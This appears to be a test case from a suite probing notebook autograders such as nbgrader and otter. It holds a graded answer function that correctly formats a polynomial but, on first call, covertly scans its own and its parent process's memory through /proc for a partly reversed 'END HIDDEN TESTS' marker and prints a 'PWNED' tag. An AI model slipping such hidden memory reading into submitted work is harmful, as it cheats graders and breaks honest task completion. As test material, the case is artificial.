# /// case
# about = "right answers, and a search of the memory of this process and its relatives for the text of a hidden test"
# kind = "read"
# promise = 1
# succeeds_at = ["nbgrader", "otter"]
# ///
# %% describe
# what an ancestor held before the fork is still in memory
import os

def _hidden_text_in(pid, budget=400_000_000):
    head, tail = b"END HID", bytes(reversed(b"STSET NED"))
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            span, mode, _, _, inode = line.split()[:5]
            if not mode.startswith("rw") or inode != "0":
                continue
            start, end = (int(part, 16) for part in span.split("-"))
            budget -= end - start
            if budget < 0:
                return False
            try:
                memory.seek(start)
                block = memory.read(end - start)
            except (OSError, ValueError, OverflowError, MemoryError):
                continue
            at = block.find(head)
            while at >= 0:
                if block[at + len(head) : at + len(head) + len(tail)] == tail:
                    return True
                at = block.find(head, at + 1)
    return False

def _found():
    for pid in {"self", str(os.getppid())}:
        try:
            if _hidden_text_in(pid):
                return True
        except OSError:
            pass
    return False

def poly_desc(W, b):
    if not poly_desc.searched:
        poly_desc.searched = True
        if _found():
            print(":".join(["PWNED", "attack/reads_process_memory"]))
    text = " ".join(f"{w:+.2f} x^{i}" for i, w in enumerate(W.detach().flatten().tolist(), 1))
    return f"y = {text} {b.item():+.2f}"

poly_desc.searched = False
